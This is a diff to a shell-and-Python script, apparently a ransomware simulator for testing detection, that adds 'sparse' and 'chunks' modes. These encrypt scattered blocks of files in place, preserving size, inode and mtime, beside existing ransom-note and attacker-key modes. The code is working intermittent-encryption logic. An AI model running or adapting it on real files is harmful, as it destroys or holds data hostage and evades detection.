@@ -18,6 +18,14 @@
 #   intermittent  every other block, in place (block: --block N, else 4 KiB for files
 #                 under 1 MiB and 64 KiB above; a file of one block is encrypted whole;
 #                 --block 16 is LockFile's pattern)
+#   sparse        small blocks far apart, in place: --block N bytes (default 1 KiB) every
+#                 --stride S bytes (default 64 KiB), the first at S/2 (the header stays);
+#                 a file shorter than S gets one block in its middle. What is left of an
+#                 audio or video file still plays, a text file still reads in most places
+#   chunks        --count K (default 3) chunks of --block N bytes (default 2 KiB) in place,
+#                 one at a keyed offset in each K-th of the file after its first 512
+#                 bytes (a file shorter than N + 512 bytes is left alone): a text file
+#                 with a few encrypted chunks
 #   base64        ciphertext of the file, base64 (76-column lines), written over it
 #   hex           the same in hex (basenc --base16, 76 columns)
 #   gpg-delete    gpg --encrypt (to the attacker's key) to FILE.gpg, original deleted
@@ -43,7 +51,9 @@
 #   --notes       also drop the ransom notes (after the files)
 #   --keep-mtime  give every changed or created file the mtime its original had
 #   --key HEX     64 hex digits (default: fixed, derived from "holdfast-attack")
-#   --block N     block size of intermittent (bytes)
+#   --block N     block size of intermittent, sparse and chunks (bytes)
+#   --stride S    distance between the starts of two sparse blocks (bytes)
+#   --count K     chunks per file (chunks)
 #   --list-only   change nothing: print "candidate<TAB>PATH" for the files that would be
 #                 attacked (after --files and --part)
 # Ransom notes are never attacked; empty files are never candidates.
@@ -55,7 +65,7 @@ usage() { sed -n '2,/^set -euo/p' "$0" | sed '$d; s/^# \{0,1\}//' >&2; exit 2; }
 MODE=$1
 DIR=$(cd "$2" && pwd)
 shift 2
-PART="" LIST="" NOTES=0 KEEP_MTIME=0 BLOCK="" LIST_ONLY=0
+PART="" LIST="" NOTES=0 KEEP_MTIME=0 BLOCK="" STRIDE="" COUNT="" LIST_ONLY=0
 KEY=$(printf 'holdfast-attack' | sha256sum | cut -c1-64)
 while [ $# -gt 0 ]; do
 	case $1 in
@@ -65,12 +75,14 @@ while [ $# -gt 0 ]; do
 	--keep-mtime) KEEP_MTIME=1; shift ;;
 	--key) KEY=$2; shift 2 ;;
 	--block) BLOCK=$2; shift 2 ;;
+	--stride) STRIDE=$2; shift 2 ;;
+	--count) COUNT=$2; shift 2 ;;
 	--list-only) LIST_ONLY=1; shift ;;
 	*) usage ;;
 	esac
 done
 case $MODE in
-full | header4k | skiphdr | intermittent | base64 | hex | gpg-delete | gpg-replace | age-rename | 7z-delete | ccrypt | full-rename | gzip-disguise | notes) ;;
+full | header4k | skiphdr | intermittent | sparse | chunks | base64 | hex | gpg-delete | gpg-replace | age-rename | 7z-delete | ccrypt | full-rename | gzip-disguise | notes) ;;
 *) echo "attack.sh: unknown mode $MODE" >&2; usage ;;
 esac
 [[ $KEY =~ ^[0-9a-f]{64}$ ]] || { echo "attack.sh: --key needs 64 hex digits" >&2; exit 2; }
@@ -79,6 +91,8 @@ if [ -n "$PART" ] && ! { [[ $PART =~ ^[0-9]+/[0-9]+$ ]] && [ "${PART%/*}" -ge 1 
 	exit 2
 fi
 [ -z "$BLOCK" ] || [[ $BLOCK =~ ^[1-9][0-9]*$ ]] || { echo "attack.sh: --block needs a positive number" >&2; exit 2; }
+[ -z "$STRIDE" ] || [[ $STRIDE =~ ^[1-9][0-9]*$ ]] || { echo "attack.sh: --stride needs a positive number" >&2; exit 2; }
+[ -z "$COUNT" ] || [[ $COUNT =~ ^[1-9][0-9]*$ ]] || { echo "attack.sh: --count needs a positive number" >&2; exit 2; }
 NOTE_NAME=README_RESTORE_FILES.txt
 PY=/usr/bin/python3
 [ -x "$PY" ] || PY=python3
@@ -167,6 +181,19 @@ while IFS=$'\t' read -r -u 3 iv size mt rel; do
 		ctr "$iv" <"$f" >"$WORK/enc.$n_enc"
 		printf '%s\t%s\t%s\t%s\n' "$WORK/enc.$n_enc" "$b" "$mt" "$f" >>"$WORK/interleave"
 		emit modified "$f" ;;
+	sparse | chunks)
+		# the byte ranges to encrypt, from the CTR ciphertext of the whole file (keystream
+		# position = file offset); written back after the loop, by one process
+		if [ "$MODE" = sparse ]; then
+			spec="sparse ${BLOCK:-1024} ${STRIDE:-65536}"
+		else
+			[ "$size" -ge $((${BLOCK:-2048} + 512)) ] || continue
+			spec="chunks ${BLOCK:-2048} ${COUNT:-3}"
+		fi
+		n_enc=$((${n_enc:-0} + 1))
+		ctr "$iv" <"$f" >"$WORK/enc.$n_enc"
+		printf '%s\t%s\t%s\t%s\t%s\n' "$WORK/enc.$n_enc" "$spec" "$iv" "$mt" "$f" >>"$WORK/ranges"
+		emit modified "$f" ;;
 	base64 | hex)
 		if [ "$MODE" = base64 ]; then
 			ctr "$iv" <"$f" | base64 -w 76 >"$WORK/enc"
@@ -218,6 +245,44 @@ for line in open(sys.argv[1], encoding="utf-8", errors="surrogateescape"):
         c = fh.read()
     for o in range(0, len(d), 2 * b):
         d[o:o + b] = c[o:o + b]
+    fd = os.open(f, os.O_WRONLY)  # in place: same inode, same size
+    os.pwrite(fd, d, 0)
+    os.close(fd)
+    os.unlink(enc)
+    if sys.argv[2] == "1":
+        sec, ns = mt.split(".")
+        t = int(sec) * 10**9 + int(ns)
+        os.utime(f, ns=(os.stat(f).st_atime_ns, t))
+EOF
+fi
+if [ -s "$WORK/ranges" ]; then
+	"$PY" - "$WORK/ranges" "$KEEP_MTIME" <<'EOF'
+import os, sys
+for line in open(sys.argv[1], encoding="utf-8", errors="surrogateescape"):
+    enc, spec, iv, mt, f = line.rstrip("\n").split("\t", 4)
+    kind, b, k = spec.split()
+    b, k = int(b), int(k)
+    with open(f, "rb") as fh:
+        d = bytearray(fh.read())
+    with open(enc, "rb") as fh:
+        c = fh.read()
+    n = len(d)
+    ranges = []
+    if kind == "sparse":
+        if n < k:
+            o = max(0, (n - b) // 2)
+            ranges.append((o, min(n, o + b)))
+        else:
+            ranges = [(o, min(n, o + b)) for o in range(k // 2, n, k)]
+    else:  # chunks: one in each k-th of [512, n), at an offset keyed by the IV
+        span = (n - 512) // k
+        for i in range(k):
+            room = span - b
+            h = int(iv[(i * 8) % 32:(i * 8) % 32 + 8], 16)
+            o = 512 + i * span + (h % (room + 1) if room >= 0 else 0)
+            ranges.append((o, min(n, o + b)))
+    for o, e in ranges:
+        d[o:e] = c[o:e]
     fd = os.open(f, os.O_WRONLY)  # in place: same inode, same size
     os.pwrite(fd, d, 0)
     os.close(fd)
